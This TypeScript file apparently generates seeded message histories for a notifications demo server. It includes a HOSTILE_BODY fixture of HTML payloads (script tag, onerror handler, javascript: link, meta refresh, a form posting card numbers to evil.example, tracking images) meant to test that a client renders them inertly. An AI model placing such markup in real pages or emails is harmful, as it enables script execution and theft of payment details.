import type { StatisticKey } from '../../shared/notifications'
import type { Customer } from './customers'
import { createRng, deriveSeed } from './rng'

export const MESSAGE_CHANNELS = [
  'email',
  'sms',
  'web_push',
  'mobile_push',
  'telegram',
  'whatsapp',
] as const
export type MessageChannel = (typeof MESSAGE_CHANNELS)[number]
/** 'chain' is an alias of 'trigger' (reference: "considered as identical"). */
export const MESSAGE_TYPES = ['bulk', 'trigger', 'transactional'] as const
export type MessageType = (typeof MESSAGE_TYPES)[number]

/** The seven flags the reference lists, as the console reads them. */
export type MessageStatistics = Record<StatisticKey, boolean>

export interface Message {
  type: MessageType
  /** Not in the reference's example, but needed to show the channel; clients must tolerate it. */
  channel: MessageChannel
  campaign_id: number
  code: string
  date: string
  sent_at: string
  subject: string
  body: string
  url: string
  icon: string
  picture: string
  statistics: MessageStatistics
}

const SUBJECTS: Record<MessageType, string[]> = {
  bulk: [
    'Spring sale: up to -50%',
    'New arrivals this week',
    'Только сегодня: скидки до 40%',
    'Weekend picks for you',
    '+1 bonus point for you',
  ],
  trigger: ['You left something in your cart', 'Back in stock!', 'Цена снизилась', 'We miss you'],
  transactional: [
    'Your order is confirmed',
    'Your order has shipped',
    'Ваш заказ доставлен',
    'Password reset',
  ],
}

const DAY = 86_400_000
/** Seeded history covers four months; the reference advises date_from within 2 weeks anyway. */
const HISTORY_DAYS = 120
/** Busy customers (every 250th, external id U100000, U100250, …) page beyond 50 in 2 weeks. */
const BUSY_EVERY = 250
const BUSY_COUNT = 150
const BUSY_RECENT = 80
const RECENT_DAYS = 13

/**
 * Markup a hostile or careless template may carry: a script, an event handler, a
 * javascript: link, a meta refresh, a form, CSS url() and remote images. A client must
 * render it so that nothing runs, nothing navigates and nothing is fetched.
 */
export const HOSTILE_BODY = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<style>body{background:url(https://tracker.example/css-bg.png)}</style>',
  '<script>window.__pwned = "script"; try { parent.__pwned = "script" } catch (e) {}</script>',
  '<h1>Your order is on its way</h1>',
  '<p style="background-image:url(https://tracker.example/inline-bg.png)">Track it any time.</p>',
  '<img src="https://tracker.example/open.gif" width="1" height="1" alt="">',
  '<img src="x" onerror="window.__pwned = \'onerror\'; top.__pwned = \'onerror\'" alt="broken">',
  '<p><a href="javascript:window.__pwned=\'link\';void 0">Claim your bonus</a></p>',
  '<p><a href="https://demo.example.com/orders/track">Track your order</a></p>',
  '<form action="https://evil.example/collect" method="post"><input name="card" placeholder="Card number"><button>Confirm</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg><image href="https://tracker.example/svg.png"/></svg>',
].join('\n')

function emailBody(subject: string, code: string, rng: ReturnType<typeof createRng>): string {
  if (rng.chance(0.15)) return HOSTILE_BODY
  return [
    `<h1>${subject}</h1>`,
    '<p>Hello! See what is new for you.</p>',
    '<p><img src="https://demo.example.com/banner.jpg" alt="Banner" width="480"></p>',
    `<p><a href="https://demo.example.com/m/${code}">Open in the shop</a></p>`,
  ].join('\n')
}

/** Generated codes embed the customer index so /notifications/:code can regenerate them. */
export function seededMessageCode(customerIndex: number, n: number): string {
  return `m${customerIndex.toString(36)}x${n.toString(36)}`
}

export function parseSeededMessageCode(code: string): { customerIndex: number; n: number } | null {
  const m = /^m([0-9a-z]+)x([0-9a-z]+)$/.exec(code)
  if (!m?.[1] || !m[2]) return null
  return { customerIndex: parseInt(m[1], 36), n: parseInt(m[2], 36) }
}

function statistics(rng: ReturnType<typeof createRng>, channel: MessageChannel): MessageStatistics {
  const hardBounced = channel === 'email' && rng.chance(0.01)
  const opened = !hardBounced && rng.chance(0.45)
  const clicked = opened && rng.chance(0.3)
  return {
    opened,
    clicked,
    hard_bounced: hardBounced,
    soft_bounced: !hardBounced && rng.chance(0.02),
    complained: channel === 'email' && rng.chance(0.003),
    unsubscribed: rng.chance(0.01),
    purchased: clicked && rng.chance(0.2),
  }
}

/** The seeded history of one customer, newest first. Pure function of (seed, customer, now). */
export function seededMessages(seed: number, customer: Customer, now: Date): Message[] {
  const rng = createRng(deriveSeed(seed, 'messages', customer.index))
  const busy = customer.index % BUSY_EVERY === 0
  const count = busy ? BUSY_COUNT : rng.int(5, 40)
  const channels: MessageChannel[] = ['web_push', 'mobile_push', 'telegram', 'whatsapp']
  if (customer.email) channels.push('email', 'email', 'email')
  if (customer.phone) channels.push('sms', 'sms')
  const out: Message[] = []
  for (let n = 0; n < count; n++) {
    const type = rng.pick(MESSAGE_TYPES)
    const channel = n === 0 && busy ? 'email' : rng.pick(channels)
    const days = busy && n < BUSY_RECENT ? RECENT_DAYS : HISTORY_DAYS
    // A busy customer's newest message is always the hostile one, an hour old.
    const hostileFirst = busy && n === 0
    const sentAt = new Date(
      now.getTime() - (hostileFirst ? DAY / 24 : rng.int(DAY / 12, days * DAY)),
    )
    const code = seededMessageCode(customer.index, n)
    const subject = hostileFirst ? 'Your order is on its way' : rng.pick(SUBJECTS[type])
    out.push({
      type,
      channel,
      campaign_id: 1000 + MESSAGE_TYPES.indexOf(type) * 100 + rng.int(0, 20),
      code,
      date: sentAt.toISOString().slice(0, 10),
      sent_at: sentAt.toISOString(),
      subject,
      body: hostileFirst
        ? HOSTILE_BODY
        : channel === 'email'
          ? emailBody(subject, code, rng)
          : 'See what is new for you.',
      url: `https://demo.example.com/m/${code}`,
      icon: channel.endsWith('push') ? 'https://demo.example.com/icon.png' : '',
      picture: rng.chance(0.3) ? 'https://demo.example.com/banner.jpg' : '',
      statistics: statistics(rng, channel),
    })
  }
  return out.sort((a, b) => b.sent_at.localeCompare(a.sent_at))
}
